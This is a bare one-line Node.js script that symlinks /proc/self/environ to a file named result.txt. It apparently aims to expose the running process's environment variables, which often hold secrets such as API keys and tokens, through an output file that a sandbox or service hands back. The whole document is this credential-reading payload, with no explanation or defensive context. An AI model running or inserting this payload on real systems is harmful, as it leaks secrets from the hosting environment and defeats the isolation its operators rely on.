require("fs").symlinkSync("/proc/self/environ", "result.txt");
